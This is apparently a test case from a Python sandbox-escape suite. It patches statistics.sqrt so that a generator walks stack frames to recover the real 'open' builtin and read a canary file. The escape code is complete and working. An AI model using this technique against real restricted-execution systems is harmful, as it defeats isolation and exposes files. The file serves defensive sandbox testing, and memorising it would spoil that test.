# id: module-attribute-poison
# family: shared-state-poisoning
# kind: isolation
# invariant: B, D, E
# origin: RestrictedPython's write guards, asteval's documentation
# technique: an attribute set on a shared module is what its functions find when they run next
# needs: any
# pythons: 3.11.2, 3.12.1, 3.13.0
# stopped-by: permits, builtins
# fix: structural
# alive-when: canary

import statistics


def planted(*arguments):
    frame = generator.gi_frame.f_back
    while "open" not in frame.f_builtins:
        frame = frame.f_back
    print(frame.f_builtins["open"]("canary.txt").read())
    return 1.0


def stepping():
    while True:
        yield planted()


statistics.sqrt = lambda value: next(generator)
generator = stepping()
statistics.NormalDist(0.0, 1.0).pdf(0.0)
